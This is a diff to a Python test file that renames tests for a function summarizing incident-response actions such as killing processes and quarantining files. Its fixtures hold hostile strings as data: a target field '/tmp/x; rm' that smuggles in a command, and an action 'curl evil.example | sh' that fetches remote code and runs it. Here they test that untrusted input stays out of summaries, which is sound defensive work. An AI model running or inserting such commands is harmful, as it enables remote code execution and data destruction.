@@ -13,7 +13,7 @@ def done(action, result="done", **fields):
     return {"action": action, "target": "/tmp/x; rm", "result": result, **fields}
 
 
-def test_a_summary_counts_what_was_done():
+def test_a_summary_counts_the_actions():
     evidence = [done("kill_process"), *[done("quarantine_file", sha256="ab")] * 2]
     assert summarize(evidence) == "1 process killed, 2 files quarantined"
 
@@ -29,13 +29,13 @@ def test_a_summary_counts_what_was_done():
         ("quarantine_file", "1 file already absent"),
     ],
 )
-def test_a_summary_says_what_was_there_before(action, summary):
+def test_a_summary_counts_entries_that_were_already_absent(action, summary):
     assert summarize([done(action, "already_absent")]) == summary
 
 
-def test_a_summary_has_none_of_the_words_of_the_user():
+def test_a_summary_does_not_contain_strings_of_the_user():
     assert summarize([done("curl evil.example | sh"), done("Reimaged.")]) == "2 other actions done"
 
 
-def test_a_summary_knows_every_step():
+def test_a_summary_has_words_for_every_step():
     assert all("other" not in summarize([done(step.action)]) for step in STEPS.values())
